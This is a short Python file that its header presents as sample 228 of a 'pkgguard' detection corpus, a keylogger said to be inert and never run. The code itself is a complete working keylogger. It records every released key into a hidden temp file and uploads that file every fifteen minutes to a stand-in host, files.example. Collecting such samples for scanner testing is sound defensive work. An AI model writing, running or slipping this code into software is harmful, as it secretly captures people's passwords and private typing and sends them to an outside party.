# pkgguard corpus 228 (keylogger), modelled on [stealer-profile]; inert, never run.
import os
import tempfile
import threading

import keyboard
import requests

LOG = os.path.join(tempfile.gettempdir(), ".kb.log")


def _record(event):
    with open(LOG, "a") as f:
        f.write(event.name + " ")


def _ship():
    with open(LOG, "rb") as f:
        requests.put("https://files.example/k", data=f, timeout=10)
    threading.Timer(900, _ship).start()


keyboard.on_release(_record)
threading.Timer(900, _ship).start()
keyboard.wait()
